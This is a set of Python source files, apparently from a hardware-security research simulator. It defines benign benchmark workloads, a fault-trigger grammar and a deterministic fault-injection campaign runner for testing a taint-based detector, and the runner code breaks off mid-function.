# ---------------------------------------------------------------------------
# CRAFTY -- alpha-beta game-tree search over an input-derived position
# ---------------------------------------------------------------------------

CRAFTY_SOURCE = r"""
char input[4096];
int board[64];
int history[64];
int nodes_visited;

int evaluate(int depth) {
    int i;
    int score;
    score = 0;
    for (i = 0; i < 64; i++) {
        score = score + board[i] * ((i & 7) - 3);
    }
    if (depth & 1) {
        return -score;
    }
    return score;
}

int negamax(int depth, int alpha, int beta, int seed) {
    int move;
    int square;
    int saved;
    int value;
    nodes_visited++;
    if (depth == 0) {
        return evaluate(depth);
    }
    for (move = 0; move < 4; move++) {
        /* Derive a pseudo-move from the seed; squares stay validated. */
        square = (seed * 31 + move * 17 + depth * 7) % 64;
        if (square < 0) {
            square = -square;
        }
        saved = board[square];
        board[square] = (saved + depth + move) % 97;
        value = -negamax(depth - 1, -beta, -alpha,
                         seed * 13 + move + 1);
        board[square] = saved;
        if (value > alpha) {
            alpha = value;
            if (depth < 64) {
                history[depth] = square;
            }
        }
        if (alpha >= beta) {
            break;
        }
    }
    return alpha;
}

int main(void) {
    int n;
    int i;
    int games;
    int total;
    int score;
    n = read(0, input, 4095);
    input[n] = 0;
    /* Seed the position from external (tainted) bytes, validated into
       the 0..96 piece range before they become board state. */
    for (i = 0; i < 64; i++) {
        if (i < n) {
            score = input[i] % 97;
            if (score < 0) {
                score = -score;
            }
            board[i] = score;
        } else {
            board[i] = 0;
        }
    }
    nodes_visited = 0;
    total = 0;
    games = 0;
    for (i = 0; i + 8 <= n && games < 6; i = i + 8) {
        score = negamax(5, -100000, 100000, input[i] & 0x7f);
        total = total + score;
        games++;
    }
    printf("crafty: %d games, %d nodes, total=%d\n",
           games, nodes_visited, total);
    return 0;
}
"""


# ---------------------------------------------------------------------------
# GAP -- breadth-first search over an input-derived graph
# ---------------------------------------------------------------------------

GAP_SOURCE = r"""
char input[8192];
int adj_head[128];
int edge_to[2048];
int edge_next[2048];
int dist[128];
int queue[128];

int main(void) {
    int n;
    int p;
    int value;
    int a;
    int b;
    int edges;
    int nodes;
    int head;
    int tail;
    int u;
    int v;
    int e;
    int reached;
    int sum;
    n = read(0, input, 8191);
    input[n] = 0;
    for (u = 0; u < 128; u++) {
        adj_head[u] = -1;
        dist[u] = -1;
    }
    /* Parse whitespace-separated numbers as edge endpoint pairs; every
       tainted value is range-validated before it indexes anything. */
    p = 0;
    edges = 0;
    nodes = 0;
    a = -1;
    while (input[p] && edges < 2048) {
        while (input[p] && !isdigit(input[p])) {
            p++;
        }
        if (!input[p]) {
            break;
        }
        value = 0;
        while (isdigit(input[p])) {
            value = value * 10 + (input[p] - '0');
            p++;
        }
        value = value % 128;
        if (value >= nodes) {
            nodes = value + 1;
        }
        if (a < 0) {
            a = value;
        } else {
            b = value;
            edge_to[edges] = b;
            edge_next[edges] = adj_head[a];
            adj_head[a] = edges;
            edges++;
            a = -1;
        }
    }
    /* BFS from node 0 over the adjacency lists. */
    head = 0;
    tail = 0;
    dist[0] = 0;
    queue[tail] = 0;
    tail++;
    reached = 0;
    sum = 0;
    while (head < tail) {
        u = queue[head];
        head++;
        reached++;
        sum = sum + dist[u];
        e = adj_head[u];
        while (e >= 0) {
            v = edge_to[e];
            if (dist[v] < 0) {
                dist[v] = dist[u] + 1;
                if (tail < 128) {
                    queue[tail] = v;
                    tail++;
                }
            }
            e = edge_next[e];
        }
    }
    printf("gap: %d nodes, %d edges, %d reached, dist sum=%d\n",
           nodes, edges, reached, sum);
    return 0;
}
"""


# ---------------------------------------------------------------------------
# VORTEX -- hash-table database transactions (insert/lookup/delete)
# ---------------------------------------------------------------------------

VORTEX_SOURCE = r"""
char input[8192];
int table_keys[509];
int table_values[509];
char table_state[509];

int probe(int key) {
    /* Open addressing with linear probing; 0=empty 1=full 2=tombstone. */
    int slot;
    int first_free;
    int tries;
    slot = key % 509;
    if (slot < 0) {
        slot = -slot;
    }
    first_free = -1;
    tries = 0;
    while (tries < 509) {
        if (table_state[slot] == 0) {
            if (first_free >= 0) {
                return first_free;
            }
            return slot;
        }
        if (table_state[slot] == 2) {
            if (first_free < 0) {
                first_free = slot;
            }
        } else if (table_keys[slot] == key) {
            return slot;
        }
        slot++;
        if (slot == 509) {
            slot = 0;
        }
        tries++;
    }
    if (first_free >= 0) {
        return first_free;
    }
    return -1;
}

int main(void) {
    int n;
    int p;
    int key;
    int op;
    int slot;
    int inserts;
    int hits;
    int misses;
    int deletes;
    int live;
    int checksum;
    n = read(0, input, 8191);
    input[n] = 0;
    inserts = 0;
    hits = 0;
    misses = 0;
    deletes = 0;
    /* Each input token is a transaction: hash of the token picks the
       key, its first byte picks the operation. */
    p = 0;
    while (p < n) {
        while (p < n && input[p] <= ' ') {
            p++;
        }
        if (p >= n) {
            break;
        }
        op = input[p] % 3;
        if (op < 0) {
            op = -op;
        }
        p++;
        key = 0;
        while (p < n && input[p] > ' ') {
            key = key * 131 + input[p];
            p++;
        }
        if (key < 0) {
            key = -key;
        }
        slot = probe(key);
        if (slot < 0) {
            continue;
        }
        if (op == 0) {
            if (table_state[slot] != 1) {
                inserts++;
            }
            table_keys[slot] = key;
            table_values[slot] = key % 1000;
            table_state[slot] = 1;
        } else if (op == 1) {
            if (table_state[slot] == 1 && table_keys[slot] == key) {
                hits++;
            } else {
                misses++;
            }
        } else {
            if (table_state[slot] == 1 && table_keys[slot] == key) {
                table_state[slot] = 2;
                deletes++;
            } else {
                misses++;
            }
        }
    }
    live = 0;
    checksum = 0;
    for (slot = 0; slot < 509; slot++) {
        if (table_state[slot] == 1) {
            live++;
            checksum = checksum ^ table_values[slot];
        }
    }
    printf("vortex: %d inserts, %d hits, %d misses, %d deletes, "
           "%d live, checksum=%d\n",
           inserts, hits, misses, deletes, live, checksum);
    return 0;
}
"""


# ---------------------------------------------------------------------------
# Workload registry + input generators
# ---------------------------------------------------------------------------

def _bzip2_input() -> bytes:
    pattern = bytearray()
    for i in range(400):
        pattern.extend(bytes([65 + i % 20]) * (1 + i % 9))
    return bytes(pattern[:4000])


def _gcc_input() -> bytes:
    lines = []
    for i in range(60):
        lines.append(f"{i} + {i * 3} * ({i % 7} + 2) - {i % 11}")
    return ("\n".join(lines) + "\n").encode()


def _gzip_input() -> bytes:
    words = ["the", "quick", "brown", "fox", "jumps", "over", "lazy", "dog"]
    text = " ".join(words[i % len(words)] for i in range(700))
    return text.encode()[:4000]


def _mcf_input() -> bytes:
    rows = 18
    values = []
    for i in range(rows):
        for j in range(rows):
            values.append(str((i * 37 + j * 101 + 13) % 500))
    return (" ".join(values) + "\n").encode()


def _parser_input() -> bytes:
    clauses = []
    for i in range(220):
        clauses.append(f"(sentence{i} (np the cat{i % 9}) (vp saw 42))")
    return " ".join(clauses).encode()[:8000]


def _vpr_input() -> bytes:
    return (b"12345 " + bytes(range(33, 127)) * 8)[:2000]


def _crafty_input() -> bytes:
    position = bytearray()
    for i in range(512):
        position.append((i * 89 + 37) % 256)
    return bytes(position)


def _gap_input() -> bytes:
    pairs = []
    # A connected backbone plus pseudo-random chords keeps the BFS
    # frontier busy across the whole graph.
    for i in range(90):
        pairs.append(f"{i} {(i + 1) % 90}")
    for i in range(500):
        a = (i * 17 + 3) % 90
        b = (i * i * 31 + 7) % 90
        pairs.append(f"{a} {b}")
    return (" ".join(pairs) + "\n").encode()


def _vortex_input() -> bytes:
    # 'c' % 3 == 0 (insert), 'a' % 3 == 1 (lookup), 'b' % 3 == 2 (delete):
    # a realistic insert-heavy transaction mix with hits and misses.
    ops = "ccacab"
    tokens = []
    for i in range(500):
        tokens.append(f"{ops[i % len(ops)]}rec{(i * 7919 + 13) % 260:03d}")
    return (" ".join(tokens) + "\n").encode()


@dataclass(frozen=True)
class SpecWorkload:
    """One Table 3 column: a benign program plus its default input."""

    name: str
    source: str
    make_input: Callable[[], bytes]


SPEC_WORKLOADS: List[SpecWorkload] = [
    SpecWorkload("BZIP2", BZIP2_SOURCE, _bzip2_input),
    SpecWorkload("GCC", GCC_SOURCE, _gcc_input),
    SpecWorkload("GZIP", GZIP_SOURCE, _gzip_input),
    SpecWorkload("MCF", MCF_SOURCE, _mcf_input),
    SpecWorkload("PARSER", PARSER_SOURCE, _parser_input),
    SpecWorkload("VPR", VPR_SOURCE, _vpr_input),
    SpecWorkload("CRAFTY", CRAFTY_SOURCE, _crafty_input),
    SpecWorkload("GAP", GAP_SOURCE, _gap_input),
    SpecWorkload("VORTEX", VORTEX_SOURCE, _vortex_input),
]


def workload_by_name(name: str) -> SpecWorkload:
    for workload in SPEC_WORKLOADS:
        if workload.name == name.upper():
            return workload
    raise KeyError(name)
