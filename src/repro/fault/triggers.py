"""When to inject: the trigger grammar.

A trigger names one point in a run's dynamic instruction stream::

    insn:1000          at retirement of dynamic instruction #1000
    pc:0x400100        at the first retirement of PC 0x400100
    pc:0x400100:3      at the third retirement of PC 0x400100
    syscall:3          when the first SYS_READ traps into the kernel
    syscall:*:2        when the second input syscall of any number traps
    syscall:4:2        when the second SYS_WRITE traps

``insn`` and ``pc`` triggers are resolved by the
:class:`~repro.fault.faults.FaultInjector` over ``InstructionRetired``
events, so they mean exactly the same thing under the functional and the
pipeline engine (both emit an identical retirement stream).  ``syscall``
triggers are armed inside the kernel as a
:class:`~repro.kernel.syscalls.SyscallFault`, because syscall-layer faults
corrupt OS-side state the CPU-side injector cannot reach.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

__all__ = ["Trigger", "parse_trigger"]

#: Trigger kinds understood by the campaign runner.
TRIGGER_KINDS = ("insn", "pc", "syscall")


@dataclass(frozen=True)
class Trigger:
    """A point in the dynamic execution at which a fault fires.

    ``value`` is the dynamic instruction index (``insn``), the program
    counter (``pc``), or the syscall number (``syscall``; None matches any
    input syscall).  ``occurrence`` counts matches before firing: the
    trigger fires on the ``occurrence``-th match (1-based).
    """

    kind: str
    value: Optional[int]
    occurrence: int = 1

    def __post_init__(self) -> None:
        if self.kind not in TRIGGER_KINDS:
            raise ValueError(f"unknown trigger kind {self.kind!r}")
        if self.kind != "syscall" and self.value is None:
            raise ValueError(f"{self.kind} trigger requires a value")
        if self.occurrence < 1:
            raise ValueError("trigger occurrence is 1-based")

    def spec(self) -> str:
        """The canonical spec string (``parse_trigger`` round-trips it)."""
        if self.kind == "insn":
            return f"insn:{self.value}"
        if self.kind == "pc":
            body = f"pc:{self.value:#x}"
        else:
            target = "*" if self.value is None else str(self.value)
            body = f"syscall:{target}"
        if self.occurrence != 1:
            body += f":{self.occurrence}"
        return body

    def __str__(self) -> str:
        return self.spec()


def parse_trigger(spec: str) -> Trigger:
    """Parse a trigger spec string (see the module docstring grammar)."""
    parts = spec.strip().split(":")
    if len(parts) < 2:
        raise ValueError(f"malformed trigger spec {spec!r}")
    kind = parts[0]
    if kind == "insn":
        if len(parts) != 2:
            raise ValueError(f"insn trigger takes one field: {spec!r}")
        return Trigger("insn", int(parts[1], 0))
    if kind == "pc":
        if len(parts) > 3:
            raise ValueError(f"too many fields in trigger spec {spec!r}")
        occurrence = int(parts[2], 0) if len(parts) == 3 else 1
        return Trigger("pc", int(parts[1], 0), occurrence)
    if kind == "syscall":
        if len(parts) > 3:
            raise ValueError(f"too many fields in trigger spec {spec!r}")
        value = None if parts[1] == "*" else int(parts[1], 0)
        occurrence = int(parts[2], 0) if len(parts) == 3 else 1
        return Trigger("syscall", value, occurrence)
    raise ValueError(f"unknown trigger kind {kind!r} in {spec!r}")
