"""Built-in campaign workloads: clean golden runs worth corrupting.

A campaign needs a victim whose *golden* (fault-free) run exits cleanly
with deterministic observable output -- otherwise "masked" and "silent
data corruption" are undefined.  The built-ins:

* ``pointer-chase`` -- the campaign's reference victim, written for fault
  *sensitivity*: it reads tainted input, keeps live pointers in registers
  and in a stack-resident pointer table, and chases them through a heap
  array for thousands of loads.  Bit flips in the pointer table produce
  wild (but typically silent) reads; taint-shadow flips on any of the
  live pointers are caught by the detector at the very next dereference;
  flips in the input buffer or heap values surface as silent data
  corruption in the printed checksum.
* ``exp1`` / ``exp2`` / ``exp3`` -- the paper's Figure 2 victims running
  their *benign* inputs, so campaigns can measure how an ordinary
  (non-attacked) execution of the section 5.1.1 programs responds to
  hardware faults.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Tuple

from ..apps.synthetic import EXP1_SOURCE, EXP2_SOURCE, EXP3_SOURCE

__all__ = ["BUILTIN_WORKLOADS", "Workload", "builtin_workload"]


@dataclass(frozen=True)
class Workload:
    """One campaign victim: a MiniC program plus its golden input."""

    name: str
    source: str
    stdin: bytes = b""
    argv: Tuple[str, ...] = field(default_factory=tuple)
    description: str = ""


POINTER_CHASE_SOURCE = r"""
int main(void) {
    char buf[40];
    int *vals;
    int *slots[8];
    int *p;
    int i;
    int h;
    int n;
    n = read(0, buf, 32);
    if (n < 1) {
        n = 1;
    }
    vals = malloc(256);
    i = 0;
    while (i < 64) {
        vals[i] = i * 13 + 7;
        i = i + 1;
    }
    i = 0;
    while (i < 8) {
        slots[i] = vals + (i * 5 % 64);
        i = i + 1;
    }
    h = 0;
    i = 0;
    while (i < 2048) {
        p = slots[i % 8];
        h = h + p[(i * 7) % 64] + buf[i % n];
        i = i + 1;
    }
    printf("h=%d\n", h);
    return 0;
}
"""


BUILTIN_WORKLOADS: Dict[str, Workload] = {
    "pointer-chase": Workload(
        name="pointer-chase",
        source=POINTER_CHASE_SOURCE,
        stdin=b"pointer-chase campaign seed input\n",
        description=(
            "reference victim: tainted input feeding a checksum computed "
            "through a stack-resident pointer table over a heap array"
        ),
    ),
    "exp1": Workload(
        name="exp1",
        source=EXP1_SOURCE,
        stdin=b"short\n",
        description="Figure 2 stack-overflow victim, benign input",
    ),
    "exp2": Workload(
        name="exp2",
        source=EXP2_SOURCE,
        stdin=b"ok\n",
        description="Figure 2 heap-corruption victim, benign input",
    ),
    "exp3": Workload(
        name="exp3",
        source=EXP3_SOURCE,
        stdin=b"plain text, no directives",
        description="Figure 2 format-string victim, benign input",
    ),
}


def builtin_workload(name: str) -> Workload:
    """Look up a built-in workload by name (KeyError lists the choices)."""
    try:
        return BUILTIN_WORKLOADS[name]
    except KeyError:
        raise KeyError(
            f"unknown builtin workload {name!r}; "
            f"choices: {', '.join(sorted(BUILTIN_WORKLOADS))}"
        ) from None
