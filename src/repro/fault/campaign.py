"""The deterministic, seed-driven fault-injection campaign runner.

A campaign answers the classic dependability question for this machine:
*when live state is corrupted, how does the run end?*  The procedure is
the standard SWIFI loop, built on this repo's checkpoint/rollback and
watchdog primitives:

1. **Golden run.**  Build the workload once, checkpoint the pre-run state
   (machine + kernel), run fault-free, and record the observable baseline:
   exit status, stdout, instruction count, the set of touched data pages,
   and per-PC / per-syscall retirement counts for trigger sampling.
2. **Plan.**  From ``random.Random(seed)``, draw the full list of
   ``(Trigger, FaultSpec)`` pairs up front.  The plan depends only on the
   seed and the golden run, never on trial outcomes, so a campaign is
   bit-for-bit reproducible.
3. **Trials.**  For each plan entry: roll back to the pre-run checkpoint
   (cheap -- the simulator and its decoded program are reused), arm the
   watchdog (instruction budget = ``slack`` x golden length, plus a
   generous wall-clock safety net), arm the fault, run, classify:

   =========  ==========================================================
   detected   the taintedness detector raised a security exception
   crash      a machine-level fault (bad fetch, bad size, wild syscall)
   timeout    the watchdog converted a runaway trial into ExecutionLimit
   masked     clean exit, observable output identical to golden
   sdc        clean exit, observable output differs (silent corruption)
   =========  ==========================================================

4. **Recovery.**  On an abnormal ending the configured policy runs:
   ``halt`` keeps the verdict, ``kill-process`` records the process as
   terminated, ``rollback-retry`` restores the pre-run checkpoint and
   re-executes *without* the fault -- the trial is ``recovered`` when the
   retry reproduces the golden observable exactly, which doubles as a
   proof that rollback really does restore a clean pre-fault state.

Determinism: timeouts are decided by the deterministic instruction budget
(the wall-clock deadline is a safety net orders of magnitude looser), all
sampling pools are sorted, and the digest over the trial records makes two
same-seed campaigns comparable with one string equality.

The pipeline is split into three phases with a public method each --
:meth:`FaultCampaign.build_plan` (golden run + seeded plan),
:meth:`FaultCampaign.run_trial` (one rollback-replay-classify step), and
:meth:`FaultCampaign.merge` (index-sorted record assembly) -- so the
process-pool engine in :mod:`repro.parallel` can fan chunked plan slices
out to workers and still produce the exact artifacts serial execution
does.  ``CampaignConfig.workers`` selects the engine: ``1`` (default)
runs the untouched serial loop, ``N > 1`` runs N pool workers, ``0``
means every available core.
"""

from __future__ import annotations

import hashlib
import os
import random
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from ..builder import build_machine
from ..defenses.alerts import SecurityException
from ..core.events import InstructionRetired, SyscallEnter, TrialCompleted
from ..defenses.policy import PointerTaintPolicy
from ..cpu.machine import ExecutionLimit, SimulatorFault
from ..cpu.pipeline import Pipeline
from ..cpu.simulator import Simulator
from ..kernel.syscalls import Kernel, SyscallFault
from ..libc.build import build_program
from ..mem.layout import PAGE_SIZE
from ..mem.tainted_memory import MemoryFault
from .checkpoint import Checkpoint
from .faults import (
    FAULT_KINDS,
    FaultInjector,
    FaultSpec,
    STATE_FAULT_KINDS,
    SYSCALL_FAULT_KINDS,
    SYSCALL_FAULT_MODES,
)
from .triggers import Trigger
from .workloads import Workload

__all__ = [
    "CampaignConfig",
    "CampaignResult",
    "FaultCampaign",
    "GoldenRun",
    "OUTCOME_CRASH",
    "OUTCOME_DETECTED",
    "OUTCOME_MASKED",
    "OUTCOME_SDC",
    "OUTCOME_TIMEOUT",
    "OUTCOMES",
    "RECOVERY_POLICIES",
    "TrialRecord",
]

OUTCOME_DETECTED = "detected"
OUTCOME_MASKED = "masked"
OUTCOME_SDC = "sdc"
OUTCOME_CRASH = "crash"
OUTCOME_TIMEOUT = "timeout"

#: The complete trial-outcome taxonomy (every trial lands in exactly one).
OUTCOMES = (
    OUTCOME_DETECTED,
    OUTCOME_MASKED,
    OUTCOME_SDC,
    OUTCOME_CRASH,
    OUTCOME_TIMEOUT,
)

#: What to do after an abnormal trial ending (detected/crash/timeout).
RECOVERY_POLICIES = ("halt", "kill-process", "rollback-retry")

#: Instruction budget for the golden run (a broken workload must not hang
#: the campaign either).
_GOLDEN_BUDGET = 20_000_000


@dataclass(frozen=True)
class TrialRecord:
    """One classified fault trial."""

    index: int
    trigger: str
    fault: str
    outcome: str
    detail: str
    instructions: int
    injected: bool
    recovered: Optional[bool] = None

    def key(self) -> Tuple:
        """The fields covered by the campaign digest."""
        return (
            self.index,
            self.trigger,
            self.fault,
            self.outcome,
            self.detail,
            self.instructions,
            self.injected,
            self.recovered,
        )


@dataclass
class CampaignConfig:
    """Knobs for one campaign.

    ``instruction_slack`` scales the golden instruction count into the
    per-trial watchdog budget; ``max_seconds`` is a wall-clock *safety
    net* that should never fire before the instruction budget on a
    healthy host (timeout classification stays deterministic).
    """

    seed: int = 7
    trials: int = 100
    engine: str = "functional"  # | "pipeline"
    recovery: str = "halt"
    use_caches: bool = False
    #: Run the machine's taint plane in label mode.  Orthogonal to the
    #: trial outcomes: the campaign digest is identical in both modes
    #: (alert strings and fault details never include provenance).
    taint_labels: bool = False
    #: Fused superblock dispatch (see :mod:`repro.cpu.superblock`).
    #: Orthogonal to trial outcomes: the campaign digest is identical
    #: with the tier on or off (asserted in tests and CI).
    superblocks: bool = True
    instruction_slack: float = 4.0
    max_seconds: float = 30.0
    reuse_snapshots: bool = True
    #: Process-pool width: ``1`` = serial (the default, legacy loop
    #: untouched), ``N > 1`` = that many pool workers, ``0`` = one per
    #: available core.  The campaign digest is identical for every value.
    workers: int = 1
    kinds: Tuple[str, ...] = FAULT_KINDS

    def __post_init__(self) -> None:
        if self.engine not in ("functional", "pipeline"):
            raise ValueError(f"unknown engine {self.engine!r}")
        if self.recovery not in RECOVERY_POLICIES:
            raise ValueError(f"unknown recovery policy {self.recovery!r}")
        unknown = set(self.kinds) - set(FAULT_KINDS)
        if unknown:
            raise ValueError(f"unknown fault kinds {sorted(unknown)}")
        if not self.kinds:
            raise ValueError("campaign needs at least one fault kind")
        if self.workers < 0:
            raise ValueError("workers must be >= 0 (0 = one per core)")

    def resolved_workers(self) -> int:
        """The effective pool width (``0`` resolved to the core count)."""
        if self.workers == 0:
            return os.cpu_count() or 1
        return self.workers


@dataclass(frozen=True)
class GoldenRun:
    """Observable baseline of the fault-free run."""

    exit_status: int
    stdout: str
    instructions: int
    data_pages: Tuple[int, ...]
    pc_counts: Tuple[Tuple[int, int], ...]
    syscall_counts: Tuple[Tuple[int, int], ...]

    @property
    def observable(self) -> Tuple[int, str]:
        return (self.exit_status, self.stdout)


@dataclass
class CampaignResult:
    """Everything a finished campaign produced."""

    workload: str
    config: CampaignConfig
    golden: GoldenRun
    records: List[TrialRecord] = field(default_factory=list)
    elapsed: float = 0.0
    #: Metrics-registry dump attached by :class:`repro.api.Session`
    #: (None when the campaign was not instrumented).
    metrics: Optional[dict] = None
    #: Pool execution summary (``{"workers", "chunks", "wall_s", ...}``)
    #: when the campaign ran on the process-pool engine; None for serial
    #: runs.  Never part of the digest: two campaigns that differ only in
    #: pool width produce byte-identical records.
    parallel: Optional[dict] = None

    @property
    def counts(self) -> Dict[str, int]:
        counts = {outcome: 0 for outcome in OUTCOMES}
        for record in self.records:
            counts[record.outcome] += 1
        return counts

    @property
    def injected_count(self) -> int:
        return sum(1 for r in self.records if r.injected)

    @property
    def recovered_count(self) -> int:
        return sum(1 for r in self.records if r.recovered)

    @property
    def trials_per_second(self) -> float:
        return len(self.records) / self.elapsed if self.elapsed > 0 else 0.0

    def digest(self) -> str:
        """SHA-256 over every trial record: two same-seed campaigns agree
        on this string iff they agree on every classified trial."""
        hasher = hashlib.sha256()
        for record in self.records:
            hasher.update(repr(record.key()).encode())
        return hasher.hexdigest()

    def kind_outcome_matrix(self) -> Dict[str, Dict[str, int]]:
        """fault kind -> outcome -> count."""
        matrix: Dict[str, Dict[str, int]] = {}
        for record in self.records:
            kind = record.fault.split("@")[0]
            row = matrix.setdefault(
                kind, {outcome: 0 for outcome in OUTCOMES}
            )
            row[record.outcome] += 1
        return matrix

    def to_dict(self) -> dict:
        """JSON-ready summary (written by ``repro campaign --json``)."""
        payload = {
            "workload": self.workload,
            "seed": self.config.seed,
            "trials": len(self.records),
            "engine": self.config.engine,
            "recovery": self.config.recovery,
            "use_caches": self.config.use_caches,
            "taint_labels": self.config.taint_labels,
            "golden": {
                "exit_status": self.golden.exit_status,
                "stdout": self.golden.stdout,
                "instructions": self.golden.instructions,
            },
            "counts": self.counts,
            "injected": self.injected_count,
            "recovered": self.recovered_count,
            "digest": self.digest(),
            "elapsed_seconds": round(self.elapsed, 3),
            "trials_per_second": round(self.trials_per_second, 2),
            "records": [
                {
                    "index": r.index,
                    "trigger": r.trigger,
                    "fault": r.fault,
                    "outcome": r.outcome,
                    "detail": r.detail,
                    "instructions": r.instructions,
                    "injected": r.injected,
                    "recovered": r.recovered,
                }
                for r in self.records
            ],
        }
        if self.parallel is not None:
            payload["parallel"] = dict(self.parallel)
        return payload

    def to_json(self) -> dict:
        """Unified result payload (see ``repro.api.validate_result_json``).

        The full per-trial detail stays under ``"stats"`` (the historical
        :meth:`to_dict` shape); ``"digest"`` is surfaced at the top level
        so reproducibility checks need not descend into the stats.
        """
        return {
            "kind": "campaign",
            "detected": self.counts[OUTCOME_DETECTED] > 0,
            "digest": self.digest(),
            "stats": self.to_dict(),
            "metrics": self.metrics if self.metrics is not None else {},
        }


class FaultCampaign:
    """Run one campaign over one workload.

    Args:
        workload: the victim program and its golden input.
        config: campaign knobs.
        schedule: explicit ``(Trigger, FaultSpec)`` pairs overriding the
            seeded plan (used by the engine-agreement tests); ``trials``
            is then ``len(schedule)``.
        instrument: observability hook (used by
            :class:`repro.api.Session`): called with every freshly built
            simulator -- the initial machine and any
            ``reuse_snapshots=False`` rebuild -- so metric observers and
            trace recorders survive machine replacement.
        registry: optional :class:`~repro.obs.metrics.MetricsRegistry`
            that the process-pool engine fills with ``parallel.*`` pool
            metrics (serial runs never touch it).
    """

    def __init__(
        self,
        workload: Workload,
        config: Optional[CampaignConfig] = None,
        schedule: Optional[Sequence[Tuple[Trigger, FaultSpec]]] = None,
        instrument: Optional[Callable[[Simulator], object]] = None,
        registry=None,
    ) -> None:
        self.workload = workload
        self.config = config if config is not None else CampaignConfig()
        self.schedule = list(schedule) if schedule is not None else None
        self.instrument = instrument
        self.registry = registry
        self.executable = build_program(workload.source)
        self._sim: Optional[Simulator] = None
        self._kernel: Optional[Kernel] = None
        self._checkpoint: Optional[Checkpoint] = None
        self._golden: Optional[GoldenRun] = None

    # ------------------------------------------------------------------
    # machine lifecycle
    # ------------------------------------------------------------------

    def _make_machine(self) -> Tuple[Simulator, Kernel]:
        workload = self.workload
        sim, kernel = build_machine(
            self.executable,
            PointerTaintPolicy(),
            argv=[workload.name, *workload.argv],
            stdin=workload.stdin,
            use_caches=self.config.use_caches,
            taint_labels=self.config.taint_labels,
            superblocks=self.config.superblocks,
        )
        if self.instrument is not None:
            self.instrument(sim)
        return sim, kernel

    def _run_engine(self, sim: Simulator) -> int:
        if self.config.engine == "pipeline":
            return Pipeline(sim).run()
        return sim.run()

    # ------------------------------------------------------------------
    # phase 1: golden run
    # ------------------------------------------------------------------

    def _golden_run(
        self, sim: Simulator, kernel: Kernel
    ) -> GoldenRun:
        pc_counts: Dict[int, int] = {}
        syscall_counts: Dict[int, int] = {}

        def count_pc(event: InstructionRetired) -> None:
            pc_counts[event.pc] = pc_counts.get(event.pc, 0) + 1

        def count_syscall(event: SyscallEnter) -> None:
            syscall_counts[event.number] = (
                syscall_counts.get(event.number, 0) + 1
            )

        sim.events.subscribe(InstructionRetired, count_pc)
        sim.events.subscribe(SyscallEnter, count_syscall)
        sim.arm_watchdog(
            max_instructions=_GOLDEN_BUDGET,
            max_seconds=self.config.max_seconds,
        )
        try:
            exit_status = self._run_engine(sim)
        except Exception as exc:
            raise ValueError(
                f"workload {self.workload.name!r} golden run must exit "
                f"cleanly, got {type(exc).__name__}: {exc}"
            ) from exc
        finally:
            sim.disarm_watchdog()
            sim.events.unsubscribe(InstructionRetired, count_pc)
            sim.events.unsubscribe(SyscallEnter, count_syscall)

        text_start = self.executable.text_base & ~(PAGE_SIZE - 1)
        text_end = self.executable.text_base + 4 * len(
            self.executable.text_words
        )
        data_pages = tuple(
            page
            for page in sim.memory.page_addresses()
            if not text_start <= page < text_end
        )
        return GoldenRun(
            exit_status=exit_status,
            stdout=kernel.process.stdout_text,
            instructions=sim.stats.instructions,
            data_pages=data_pages,
            pc_counts=tuple(sorted(pc_counts.items())),
            syscall_counts=tuple(sorted(syscall_counts.items())),
        )

    # ------------------------------------------------------------------
    # phase 2: the seeded plan
    # ------------------------------------------------------------------

    def _build_plan(
        self, golden: GoldenRun, rng: random.Random
    ) -> List[Tuple[Trigger, FaultSpec]]:
        if self.schedule is not None:
            return list(self.schedule)
        input_numbers = [
            number for number, _ in golden.syscall_counts if number in (3, 64)
        ]
        kinds = [
            kind
            for kind in self.config.kinds
            # Syscall-layer faults need an input syscall to perturb.
            if kind in STATE_FAULT_KINDS or input_numbers
        ]
        if not kinds:
            raise ValueError(
                "no applicable fault kinds: workload performs no input "
                "syscalls and only syscall kinds were requested"
            )
        pcs = [pc for pc, _ in golden.pc_counts]
        pc_count = dict(golden.pc_counts)
        # PC triggers sample *dynamic* occurrences (count-weighted), so a
        # fault is as likely to land in a hot loop as uniform-over-time
        # injection would make it -- the standard SWIFI fault model.
        pc_weights = [pc_count[pc] for pc in pcs]
        kind_weights = [
            3 if kind in STATE_FAULT_KINDS else 1 for kind in kinds
        ]
        plan: List[Tuple[Trigger, FaultSpec]] = []
        for _ in range(self.config.trials):
            kind = rng.choices(kinds, weights=kind_weights)[0]
            if kind in SYSCALL_FAULT_KINDS:
                number = rng.choice(input_numbers)
                occurrence = rng.randint(
                    1, dict(golden.syscall_counts)[number]
                )
                trigger = Trigger("syscall", number, occurrence)
                spec = FaultSpec(kind)
            else:
                if rng.random() < 0.5:
                    trigger = Trigger(
                        "insn", rng.randint(1, golden.instructions)
                    )
                else:
                    pc = rng.choices(pcs, weights=pc_weights)[0]
                    occurrence = rng.randint(1, min(pc_count[pc], 16))
                    trigger = Trigger("pc", pc, occurrence)
                if kind in ("mem", "taint-mem"):
                    page = rng.choice(golden.data_pages)
                    target = page + rng.randrange(PAGE_SIZE)
                    # One or two flipped bits per fault (single-bit upsets
                    # dominate, but multi-bit upsets exist).
                    mask = 1 << rng.randrange(8)
                    if rng.random() < 0.25:
                        mask |= 1 << rng.randrange(8)
                elif kind == "reg":
                    target = rng.randint(1, 31)
                    mask = 1 << rng.randrange(32)
                    if rng.random() < 0.25:
                        mask |= 1 << rng.randrange(32)
                else:  # taint-reg
                    target = rng.randint(1, 31)
                    mask = 1 << rng.randrange(4)
                spec = FaultSpec(kind, target, mask)
            plan.append((trigger, spec))
        return plan

    # ------------------------------------------------------------------
    # phase 3 + 4: trials and recovery
    # ------------------------------------------------------------------

    def _trial_budget(self, golden: GoldenRun) -> int:
        return int(self.config.instruction_slack * golden.instructions) + 10_000

    def _run_trial(
        self,
        sim: Simulator,
        kernel: Kernel,
        golden: GoldenRun,
        trigger: Trigger,
        spec: FaultSpec,
    ) -> Tuple[str, str, bool]:
        """One faulted execution; returns (outcome, detail, injected)."""
        injector: Optional[FaultInjector] = None
        if trigger.kind == "syscall":
            kernel.syscall_fault = SyscallFault(
                mode=SYSCALL_FAULT_MODES[spec.kind],
                number=trigger.value,
                occurrence=trigger.occurrence,
            )
        else:
            injector = FaultInjector(sim, trigger, spec)
        sim.arm_watchdog(
            max_instructions=self._trial_budget(golden),
            max_seconds=self.config.max_seconds,
        )
        try:
            exit_status = self._run_engine(sim)
        except SecurityException as exc:
